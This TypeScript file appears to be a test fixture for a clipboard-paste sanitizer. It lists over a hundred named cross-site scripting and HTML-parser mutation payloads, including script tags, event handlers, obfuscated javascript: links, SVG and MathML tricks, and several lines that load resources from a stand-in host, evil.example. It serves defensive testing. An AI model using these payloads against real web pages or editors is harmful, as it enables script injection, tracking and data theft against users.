/** What has been tried against editors that take HTML from a clipboard, each with the harmless words it also carries. */
export const hostilePastes: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>word</p><script>window.hacked = 1</script>'],
  ['a script in capitals', '<p>word</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['a script never closed', '<p>word</p><script>window.hacked = 1'],
  ['a script split by a comment', '<p>word</p><scr<!-- -->ipt>window.hacked = 1</scr<!-- -->ipt>'],
  ['a script with a slash', '<p>word</p><script/x>window.hacked = 1</script/x>'],
  ['an image that fails', '<p>word<img src=x onerror="window.hacked = 1"></p>'],
  ['an image with a slash for a space', '<p>word<img/src/onerror=window.hacked=1></p>'],
  ['a broken quote', '<p>word<img src="x` `<script>window.hacked = 1</script>"` `></p>'],
  ['an angle in an attribute', '<p title="><script>window.hacked = 1</script>">word</p>'],
  ['svg that loads', '<p>word</p><svg onload="window.hacked = 1"><text>drawn</text></svg>'],
  ['svg with a script', '<p>word</p><svg><script>window.hacked = 1</script></svg>'],
  ['svg with an animation', '<p>word</p><svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>'],
  [
    'svg with foreign markup',
    '<p>word</p><svg><foreignObject><iframe src=javascript:window.hacked=1></foreignObject></svg>',
  ],
  [
    'mathematics that mutates',
    '<p>word</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  ],
  [
    'noscript that mutates',
    '<p>word</p><noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  ],
  ['a template', '<p>word</p><template><img src=x onerror=window.hacked=1></template>'],
  ['a frame', '<p>word</p><iframe src="javascript:window.hacked=1"></iframe>'],
  ['a frame with a document', '<p>word</p><iframe srcdoc="<script>window.hacked=1</script>"></iframe>'],
  [
    'an object',
    '<p>word</p><object data="data:text/html,<script>window.hacked=1</script>">fallback</object>',
  ],
  ['an embed', '<p>word</p><embed src="javascript:window.hacked=1">'],
  ['a link that runs', '<p><a href="javascript:window.hacked=1">word</a></p>'],
  ['a link that runs, disguised', '<p><a href="java&#x0A;script:window.hacked=1">word</a></p>'],
  ['a base address', '<base href="https://evil.example/"><p>word</p>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>word</p>'],
  ['a sheet of styles', '<style>@import "https://evil.example/x.css"; p { color: red }</style><p>word</p>'],
  ['a linked sheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>word</p>'],
  ['a style that fetches', '<p style="background: url(https://evil.example/p.png)">word</p>'],
  [
    'a form',
    '<form action="https://evil.example"><input name=q value=hidden><button formaction="javascript:window.hacked=1">word</button></form>',
  ],
  ['a field in focus', '<p>word</p><input autofocus onfocus="window.hacked = 1">'],
  ['details that open', '<details open ontoggle="window.hacked = 1">word</details>'],
  [
    'a video',
    '<p>word</p><video src=x onerror="window.hacked = 1"><source onerror="window.hacked=1"></video>',
  ],
  [
    'a text field that ends early',
    '<p>word</p><textarea><img title="</textarea><img src=x onerror=window.hacked=1>"></textarea>',
  ],
  [
    'a title that ends early',
    '<title><img title="</title><img src=x onerror=window.hacked=1>"></title><p>word</p>',
  ],
  ['a comment that ends oddly', '<p>word</p><!--><img src=x onerror=window.hacked=1>-->'],
  ['a conditional comment', '<!--[if gte mso 9]><script>window.hacked=1</script><![endif]--><p>word</p>'],
  ['a character of nothing', '<p>wo\0rd</p><scr\0ipt>window.hacked = 1</scr\0ipt>'],
  ['our own attributes', '<p data-checked="true" data-marks="bold" onclick="window.hacked=1">word</p>'],
  ['an editor’s own secret', '<p data-lexical-editor="true" data-slate-fragment="eyJ4Ijp0cnVlfQ==">word</p>'],
  ['a thousand bold', `${'<b>'.repeat(1000)}word`],
  ['a thousand lists', `${'<ul><li>'.repeat(1000)}word`],
  ['ends without starts', `${'</p></div></script></html>'.repeat(100)}<p>word</p>`],
  ['plain text without end', '<p>word</p><plaintext><script>window.hacked = 1</script>'],
  ['old raw text', '<p>word</p><xmp><script>window.hacked = 1</script></xmp>'],
  ['an element of its own', '<x-evil onclick=window.hacked=1>word</x-evil>'],
  [
    'a slot in a shadow',
    '<div><template shadowrootmode="open"><script>window.hacked=1</script></template>word</div>',
  ],
  // links
  ['a link to a script in a tab', '<p><a href="java&#9;script:window.hacked=1">word</a></p>'],
  ['a link with a space before', '<p><a href=" &#14; javascript:window.hacked=1">word</a></p>'],
  ['a link in capitals', '<p><a href="JaVaScRiPt:window.hacked=1">word</a></p>'],
  ['a link with an entity for its colon', '<p><a href="javascript&colon;window.hacked=1">word</a></p>'],
  [
    'a link without its semicolons',
    '<p><a href="&#0000106&#0000097&#0000118&#0000097script:window.hacked=1">word</a></p>',
  ],
  [
    'a link to data',
    '<p><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=">word</a></p>',
  ],
  ['a link to an old script', '<p><a href="vbscript:window.hacked=1">word</a></p>'],
  ['a link to a file', '<p><a href="file:///etc/passwd">word</a></p>'],
  ['a link to this app', '<p><a href="app://afterword/index.html">word</a></p>'],
  ['a link to a made thing', '<p><a href="blob:https://evil.example/1">word</a></p>'],
  [
    'a link that closes its attribute',
    '<p><a href="https://evil.example/&quot; onclick=&quot;window.hacked=1">word</a></p>',
  ],
  [
    'a link that closes its tag',
    '<p><a href="https://evil.example/&quot;&gt;&lt;script&gt;window.hacked=1&lt;/script&gt;">word</a></p>',
  ],
  [
    'a link that is pressed by itself',
    '<p><a href="https://evil.example" id=a onclick="window.hacked=1" autofocus>word</a></p>',
  ],
  [
    'a link that tells when it is pressed',
    '<p><a href="https://example.org" ping="https://evil.example/p">word</a></p>',
  ],
  ['a link that is a download', '<p><a href="https://evil.example/x" download>word</a></p>'],
  [
    'a link of two thousand and one letters',
    `<p><a href="https://evil.example/${'a'.repeat(2001)}">word</a></p>`,
  ],
  [
    'a link in a link',
    '<p><a href="https://a.example"><a href="javascript:window.hacked=1">word</a></a></p>',
  ],
  [
    'a link in a drawing',
    '<p>word</p><svg><a xlink:href="javascript:window.hacked=1"><text>drawn</text></a></svg>',
  ],
  [
    'a picture as a map',
    '<p>word</p><map name=m><area href="javascript:window.hacked=1" shape=default></map><img usemap=#m>',
  ],
  // pictures
  [
    'a picture that is a drawing',
    '<p>word<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=window.hacked=1>"></p>',
  ],
  ['a picture that is a page', '<p>word<img src="data:text/html;base64,PHNjcmlwdD4="></p>'],
  [
    'a picture whose data closes the tag',
    '<p>word<img src="data:image/png;base64,AAAA&quot;&gt;&lt;script&gt;"></p>',
  ],
  ['a picture whose data is no data', '<p>word<img src="data:image/png;base64,===="></p>'],
  [
    'a picture of many sizes',
    '<p>word<img srcset="https://evil.example/1x 1x, https://evil.example/2x 2x"></p>',
  ],
  ['a picture that waits', '<p>word<img loading=lazy src="https://evil.example/p.gif" width=1 height=1></p>'],
  ['a picture whose words are tags', '<p>word<img src=x alt="<script>window.hacked=1</script>"></p>'],
  [
    'a picture whose words are entities',
    '<p>word<img src=x alt="&lt;img src=x onerror=window.hacked=1&gt;"></p>',
  ],
  [
    'a picture in a picture element',
    '<p>word<picture><source srcset="https://evil.example/s"><img src=x onerror="window.hacked=1"></picture></p>',
  ],
  ['an old picture', '<p>word<image src=x onerror="window.hacked=1"></p>'],
  [
    'a background of a table',
    '<table background="javascript:window.hacked=1"><tr><td>word</td></tr></table>',
  ],
  ['a cursor', '<p style="cursor: url(https://evil.example/c.cur)">word</p>'],
  // tables
  ['a script in a table', '<table><script>window.hacked=1</script><tr><td>word</td></tr></table>'],
  [
    'a script between cells',
    '<table><tr><td>word</td><script>window.hacked=1</script><td>b</td></tr></table>',
  ],
  ['a table never closed', '<table><tr><td>word<table><tr><td><script>window.hacked=1'],
  ['cells without a table', '<td>word</td><th onclick="window.hacked=1">x</th>'],
  ['a cell of a thousand columns', '<table><tr><td colspan=1000000 rowspan=1000000>word</td></tr></table>'],
  ['a table of tables', `${'<table><tr><td>'.repeat(200)}word`],
  ['a row of two thousand cells', `<table><tr><td>word</td>${'<td>x</td>'.repeat(2000)}</tr></table>`],
  [
    'a caption that runs',
    '<table><caption onclick="window.hacked=1">word</caption><tr><td>x</td></tr></table>',
  ],
  [
    'a form in a table',
    '<table><form action="javascript:window.hacked=1"><tr><td>word</td></tr></form></table>',
  ],
  [
    'a column group that runs',
    '<table><colgroup onload="window.hacked=1"><col></colgroup><tr><td>word</td></tr></table>',
  ],
  // code and other raw text
  ['a script in code', '<pre><code>word<script>window.hacked=1</script></code></pre>'],
  ['code that is a tag', '<pre>word &lt;script&gt;window.hacked=1&lt;/script&gt;</pre>'],
  ['code never closed', '<pre><code>word<img src=x onerror="window.hacked=1">'],
  ['a listing', '<listing>word<img src=x onerror=window.hacked=1></listing>'],
  [
    'a frame set',
    '<p>word</p><frameset onload="window.hacked=1"><frame src="javascript:window.hacked=1"></frameset>',
  ],
  [
    'no frames',
    '<p>word</p><noframes><img title="</noframes><img src=x onerror=window.hacked=1>"></noframes>',
  ],
  ['no embed', '<p>word</p><noembed><img title="</noembed><img src=x onerror=window.hacked=1>"></noembed>'],
  // names of our own
  ['a mention that is none', '<p>word <span data-afterword="person:<script>">x</span></p>'],
  [
    'a mention of nobody',
    '<p>word <span data-afterword="person:00000000-0000-4000-8000-000000000000">x</span></p>',
  ],
  [
    'a mention with a handler',
    '<p>word <span data-afterword="tag:00000000-0000-4000-8000-000000000000" onclick="window.hacked=1">x</span></p>',
  ],
  [
    'a picture of ours that is none',
    '<p>word<img data-afterword="image:&quot;&gt;" src=x onerror="window.hacked=1"></p>',
  ],
  [
    'evidence that is none',
    '<p><span data-evidence="saw&quot; onclick=&quot;window.hacked=1">word</span></p>',
  ],
  [
    'the signs we write ourselves',
    '<p>word<wbr data-bytes="data:text/html,x"><span data-link="javascript:window.hacked=1">x</span></p>',
  ],
  [
    'a grid we write ourselves',
    '<div data-grid="table"><div data-grid="row"><div data-grid="cell" onclick="window.hacked=1">word</div></div></div>',
  ],
  // parsers
  ['an end tag with attributes', '<p>word</p x="><img src=x onerror=window.hacked=1>">'],
  ['a tag that begins a tag', '<p>word</p><<script>window.hacked=1//<</script>'],
  ['a tag of slashes', '<p>word</p><img////src=x////onerror=window.hacked=1////>'],
  ['an attribute without a name', '<p ="><script>window.hacked=1</script>">word</p>'],
  [
    'an attribute said twice',
    '<p><a href="https://example.org" href="javascript:window.hacked=1">word</a></p>',
  ],
  ['a vertical space in a tag', '<p>word</p><img\u000bsrc=x\u000bonerror=window.hacked=1>'],
  ['a form feed in a tag', '<p>word</p><img\fsrc=x\fonerror=window.hacked=1>'],
  ['letters that fold to others', '<p>word</p><ſcript>window.hacked=1</ſcript>'],
  ['a byte order mark in a tag', '<p>word</p><\ufeffscript>window.hacked=1</script>'],
  ['a comment in a comment', '<p>word</p><!-- <!-- --> <img src=x onerror=window.hacked=1> -->'],
  ['a comment that never ends', '<p>word</p><!-- <p>hidden</p>'],
  ['a doctype with markup', '<!DOCTYPE x [<!ENTITY a "<script>window.hacked=1</script>">]><p>word</p>'],
  ['raw data of another language', '<p>word</p><![CDATA[<img src=x onerror=window.hacked=1>]]>'],
  ['an instruction', '<?xml-stylesheet href="javascript:window.hacked=1"?><p>word</p>'],
  [
    'mathematics with an action',
    '<p>word</p><math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:window.hacked=1">drawn</maction></math>',
  ],
  [
    'a drawing that uses another',
    '<p>word</p><svg><use href="data:image/svg+xml,<svg id=x onload=window.hacked=1>#x"></use></svg>',
  ],
  [
    'a drawing that sets a link',
    '<p>word</p><svg><a><set attributeName=href to=javascript:window.hacked=1></a></svg>',
  ],
  ['a style that mutates', '<p>word</p><svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">'],
  [
    'a select that hides',
    '<p>word</p><select><option><style></option></select><img src=x onerror=window.hacked=1></style>',
  ],
  [
    'an editable within',
    '<p contenteditable onbeforeinput="window.hacked=1" tabindex=0 autofocus onfocus="window.hacked=1">word</p>',
  ],
  [
    'a popover that opens',
    '<p>word</p><div popover id=p onbeforetoggle="window.hacked=1">x</div><button popovertarget=p>y</button>',
  ],
  ['a marquee', '<marquee onstart="window.hacked=1">word</marquee>'],
  ['a body that loads', '<body onload="window.hacked=1"><p>word</p></body>'],
  ['a transition that ends', '<p style="transition: all 1ms" ontransitionend="window.hacked=1">word</p>'],
  [
    'an input of a name that is known',
    '<p>word</p><input name=attributes><form id=documentElement><input name=parentNode></form>',
  ],
]
